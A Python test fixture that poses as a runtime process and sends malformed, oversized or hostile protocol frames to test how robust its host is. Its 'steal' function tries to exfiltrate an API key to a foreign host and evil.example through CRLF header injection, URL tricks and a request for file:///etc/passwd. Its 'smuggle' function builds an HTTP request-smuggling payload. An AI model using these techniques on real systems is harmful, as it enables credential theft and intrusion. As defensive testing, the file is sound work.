"""A program that speaks the protocol of a runtime process, and lies in it.

``python fake.py NAME`` answers as an honest one would until it is called; then it does what the
function NAME does, with the id of the call. It runs without walls and is no part of Moltler.
"""

from __future__ import annotations

import json
import os
import signal
import struct
import sys
from collections.abc import Callable
from typing import Any

LOAD, CHECK, CALL, CREDIT, PING = 1, 2, 3, 4, 8
READY, LOADED, RESULT, PAGE, END, ERROR, FETCH, ABORT = 32, 33, 34, 35, 36, 37, 38, 39
PULL, PONG, LOG, CLEAN, TICK, COVERAGE, SIGN, WALLS = 40, 41, 42, 43, 44, 45, 46, 47


def write(data: bytes) -> None:
    view = memoryview(data)
    while view:
        view = view[os.write(1, view) :]


def frame(kind: int, id_: int, payload: bytes = b"") -> bytes:
    return struct.pack("<IBI", len(payload), kind, id_) + payload


def send(kind: int, id_: int, payload: Any = b"") -> None:
    write(frame(kind, id_, payload if isinstance(payload, bytes) else json.dumps(payload).encode()))


def with_head(head: Any, body: bytes = b"") -> bytes:
    text = json.dumps(head).encode()
    return struct.pack("<I", len(text)) + text + body


def fetch(call: int, id_: int, body: bytes | None = None, **changed: Any) -> None:
    head = {
        "call": call,
        "method": "GET",
        "url": "http://127.0.0.1:9/",
        "headers": [],
        "redirect": "follow",
        "body": body is not None,
    } | changed
    send(FETCH, id_, with_head(head, body or b""))


def read(size: int) -> bytes:
    data = b""
    while len(data) < size:
        piece = os.read(0, size - len(data))
        if not piece:
            sys.exit(0)
        data += piece
    return data


def receive() -> tuple[int, int, bytes]:
    length, kind, id_ = struct.unpack("<IBI", read(9))
    return kind, id_, read(length)


def page(columns: list[tuple[int, list[bytes]]], rows: int, *, size: int | None = None) -> bytes:
    head = struct.pack("<IIII", rows, len(columns), 0, 0)
    cells = b""
    for kind, parts in columns:
        head += struct.pack("<IIII", kind, *map(len, parts))
        for part in parts:
            cells += part + bytes(-len(part) % 8)
    whole = head + cells
    return whole if size is None else whole[:size]


def offsets(*values: int) -> bytes:
    return struct.pack(f"<{len(values)}i", *values)


INTEGERS = (1, [b"", b"", struct.pack("<q", 1)])
TEXT = (0, [b"", offsets(0, 1), b"x"])


def texts(*values: int, data: bytes = b"x") -> bytes:
    return page([INTEGERS, (0, [b"", offsets(*values), data])], 1)


def attack_of(name: str) -> Callable[[int, Any], object]:
    return {
        # frames that nobody may send
        "unknown_kind": lambda i, _: send(99, i),
        "kind_of_the_host": lambda i, _: send(CALL, i),
        "ready_again": lambda i, _: send(READY, 0),
        "walls_again": lambda i, _: send(WALLS, 0, []),
        "result_of_nobody": lambda i, _: send(RESULT, i + 70, b"1"),
        "page_for_a_value": lambda i, _: send(PAGE, i, page([INTEGERS, TEXT], 1)),
        "end_of_a_value": lambda i, _: send(END, i, {}),
        "loaded_again": lambda i, _: send(LOADED, i, {"typescript": False}),
        "tick_unasked": lambda i, _: send(TICK, 0, bytes(8)),
        "clean_unasked": lambda i, _: send(CLEAN, 0, {"heap_bytes": 1}),
        "coverage_unasked": lambda i, _: send(COVERAGE, 0, {"modules": []}),
        "result_twice": lambda i, _: write(frame(RESULT, i, b"1") + frame(RESULT, i, b"2")),
        # sizes
        "frame_beyond_the_cap": lambda i, _: write(struct.pack("<IBI", (64 << 20) + 1, RESULT, i)),
        "log_of_60_mb": lambda i, _: write(struct.pack("<IBI", 60 << 20, LOG, i)),
        "log_line_of_200_kb": lambda i, _: send(LOG, i, {"level": "info", "text": "x" * 200_000}),
        "error_of_2_mb": lambda i, _: send(ERROR, i, error("m" * (2 << 20))),
        "pong_with_a_payload": lambda i, _: send(PONG, 1, b"x" * 100),
        "half_a_frame": lambda i, _: write(struct.pack("<IBI", 1000, LOG, i) + b"{"),
        # texts that are not what they should be
        "error_of_another_kind": lambda i, _: send(ERROR, i, error("m") | {"kind": "other"}),
        "error_without_json": lambda i, _: send(ERROR, i, b"no json"),
        "error_nested_deeply": lambda i, _: send(ERROR, i, b"[" * 900_000),
        "error_in_bad_utf8": lambda i, _: send(ERROR, i, b'{"kind":"plain","name":"\xff"}'),
        "log_with_a_number": lambda i, _: send(LOG, i, {"level": 1, "text": "x"}),
        # results
        "result_without_json": lambda i, _: send(RESULT, i, b"no json"),
        "result_nested_deeply": lambda i, _: send(RESULT, i, b"[" * 3_000_000),
        "result_nan": lambda i, _: send(RESULT, i, b"NaN"),
        "result_with_a_million_digits": lambda i, _: send(RESULT, i, b"1" * 1_000_000),
        "result_in_bad_utf8": lambda i, _: send(RESULT, i, b'"\xff"'),
        "result_lone_surrogate": lambda i, _: send(RESULT, i, b'"\\ud800"'),
        # pages
        "page_beyond_credit": lambda i, _: write(frame(PAGE, i, page([INTEGERS, TEXT], 1)) * 3),
        "page_of_nobody": lambda i, _: send(PAGE, i + 70, page([INTEGERS, TEXT], 1)),
        "page_empty": lambda i, _: send(PAGE, i),
        "page_of_zeros": lambda i, _: send(PAGE, i, bytes(64)),
        "page_short": lambda i, _: send(PAGE, i, page([INTEGERS, TEXT], 1, size=60)),
        "page_with_more": lambda i, _: send(PAGE, i, page([INTEGERS, TEXT], 1) + bytes(8)),
        "page_offsets_past_the_end": lambda i, _: send(PAGE, i, texts(0, 1 << 30)),
        "page_offsets_decreasing": lambda i, _: send(PAGE, i, texts(1, 0)),
        "page_offsets_negative": lambda i, _: send(PAGE, i, texts(-8, 1)),
        "page_bad_utf8": lambda i, _: send(PAGE, i, texts(0, 1, data=b"\xff")),
        "page_of_2_to_the_31_rows": lambda i, _: send(PAGE, i, page([INTEGERS, TEXT], (1 << 31))),
        "page_one_column": lambda i, _: send(PAGE, i, page([INTEGERS], 1)),
        "page_other_kinds": lambda i, _: send(PAGE, i, page([TEXT, INTEGERS], 1)),
        "page_unknown_kind": lambda i, _: send(PAGE, i, page([INTEGERS, (9, TEXT[1])], 1)),
        # requests
        "fetch_of_nobody": lambda i, _: fetch(i + 70, 1),
        "fetch_id_twice": lambda i, _: (fetch(i, 5), fetch(i, 5)),
        "fetch_id_backwards": lambda i, _: (fetch(i, 5), fetch(i, 4)),
        "fetch_short": lambda i, _: send(FETCH, 1, b"\xff\xff\xff\xff"),
        "fetch_redirect_elsewhere": lambda i, _: fetch(i, 1, redirect="elsewhere"),
        "fetch_address_of_200_kb": lambda i, _: fetch(i, 1, url="http://h/" + "a" * 200_000),
        "fetch_5000_headers": lambda i, _: fetch(i, 1, headers=[["a", "b"]] * 5_000),
        "fetch_head_of_2_mb": lambda i, _: fetch(i, 1, method="M" * (2 << 20)),
        "fetch_100_at_once": fetch_many,
        "sign_of_nobody": lambda i, _: sign(i + 70, 1),
        "sign_without_hex": lambda i, _: sign(i, 1, key="zz"),
        "sign_with_a_key_of_1_mb": lambda i, _: sign(i, 1, key="00" * (1 << 20)),
        "sign_two_at_once": lambda i, _: (sign(i, 1), sign(i, 2)),
        "sign_by_md5": lambda i, _: sign(i, 1, hash="MD5"),
        # ends
        "exit_0": lambda i, _: os._exit(0),
        "exit_77": lambda i, _: os._exit(77),
        "segfault": lambda i, _: os.kill(os.getpid(), signal.SIGSEGV),
        "abort": lambda i, _: os.kill(os.getpid(), signal.SIGABRT),
        "stop": lambda i, _: os.kill(os.getpid(), signal.SIGSTOP),
        "close_and_live_on": close_and_live_on,
        "silence": lambda i, _: None,
        "deaf": lambda i, _: signal.pause(),
        # floods
        "log_flood": log_flood,
        "pull_flood": pull_flood,
        "request_bodies": request_bodies,
        "steal": steal,
        "smuggle": smuggle,
    }[name]


def error(message: str) -> dict[str, Any]:
    return {"kind": "plain", "name": "Error", "message": message}


def sign(call: int, id_: int, **changed: str) -> None:
    head = {"call": call, "hash": "SHA-256", "key": "00"} | changed
    send(SIGN, id_, with_head(head, b"text"))


def fetch_many(call: int, _: Any) -> None:
    for number in range(1, 101):
        fetch(call, number, url=CONFIG["api_url"] + "/slow")


def close_and_live_on(call: int, _: Any) -> None:
    null = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1):
        os.dup2(null, number)
    signal.pause()


def log_flood(call: int, _: Any) -> None:
    line = frame(LOG, call, json.dumps({"level": "info", "text": "x" * 60_000}).encode())
    for _number in range(2_000):
        write(line)
    send(RESULT, call, b'"flooded"')


def pull_flood(call: int, _: Any) -> None:
    """Ask for large bodies, and read nothing of what comes."""
    for number in range(1, 33):
        fetch(call, number, url=CONFIG["api_url"] + "/large")
    while True:
        for number in range(1, 33):
            send(PULL, number)


def request_bodies(call: int, _: Any) -> None:
    """Send more bodies than anybody should keep."""
    for number in range(1, 60):
        body = b"b" * 15_000_000
        fetch(call, number, body, method="POST", url=CONFIG["api_url"] + "/slow")


def steal(call: int, args: Any) -> None:
    """Ask for the secret in ways that no handler has."""
    key = args[0]["api_key"]
    foreign = "http://" + CONFIG["foreign"]
    tries: list[dict[str, Any]] = [
        {"url": foreign + "/?k=" + key},
        {"url": foreign, "headers": [["Host", "127.0.0.1"], ["X", key]]},
        {"url": CONFIG["api_url"].replace("//", "//" + key + "@") + "/x", "method": "CONNECT"},
        {"url": CONFIG["api_url"], "headers": [["X\r\nHost", "evil.example"], ["Y", key]]},
        {"url": CONFIG["api_url"], "headers": [["X", "a\r\nX-Evil: " + key]]},
        {"url": CONFIG["api_url"] + "\r\nHost: evil.example\r\n/" + key},
        {"url": "file:///etc/passwd"},
        {"url": key},
    ]
    for number, change in enumerate(tries, 1):
        fetch(call, number, **change)
    send(RESULT, call, {"answers": [answer() for _ in tries]})


def smuggle(call: int, args: Any) -> None:
    """Write the framing of HTTP into a request by hand."""
    headers = [
        ["Content-Length", "5"],
        ["Transfer-Encoding", "chunked"],
        ["Host", "evil.example"],
        ["Connection", "close, X-Kept"],
        ["Expect", "100-continue"],
        ["Upgrade", "websocket"],
        ["TE", "trailers"],
        ["X-Kept", "1"],
    ]
    fetch(call, 1, b"0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n", method="POST", headers=headers,
          url=CONFIG["api_url"] + "/smuggled")  # fmt: skip
    send(RESULT, call, {"answers": [answer()]})


def answer() -> Any:
    while True:
        kind, _, payload = receive()
        if kind == 6:
            size = struct.unpack_from("<I", payload)[0]
            return [json.loads(payload[4 : 4 + size]), payload[4 + size :].decode("latin-1")]
        if kind == PING:
            send(PONG, _)


CONFIG: dict[str, str] = {}


def main() -> None:
    name = sys.argv[1]
    if name == "ready_without_walls":
        send(READY, 0)
    elif name == "no_json_for_walls":
        send(WALLS, 0, b"[[1]]")
    elif name == "never_ready":
        send(WALLS, 0, [])
        signal.pause()
    send(WALLS, 0, [])
    send(READY, 0)
    while True:
        kind, id_, payload = receive()
        if kind == LOAD:
            send(LOADED, id_, {"typescript": False})
        elif kind == PING:
            send(PONG, id_)
        elif kind == CALL:
            args = json.loads(payload)["args"]
            CONFIG.update({k: v for k, v in args[0].items() if isinstance(v, str)})
            attack_of(name)(id_, args)


if __name__ == "__main__":
    main()
